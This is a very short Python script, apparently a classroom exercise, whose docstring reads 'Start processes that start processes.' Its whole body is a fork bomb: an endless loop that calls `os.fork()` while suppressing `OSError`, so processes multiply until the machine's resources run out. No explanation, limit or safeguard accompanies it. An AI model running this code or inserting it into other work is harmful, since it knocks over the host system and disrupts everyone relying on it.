"""Start processes that start processes."""

import os
from contextlib import suppress

from classroom import open_exercises

exercises = open_exercises(1)

while True:
    with suppress(OSError):
        os.fork()
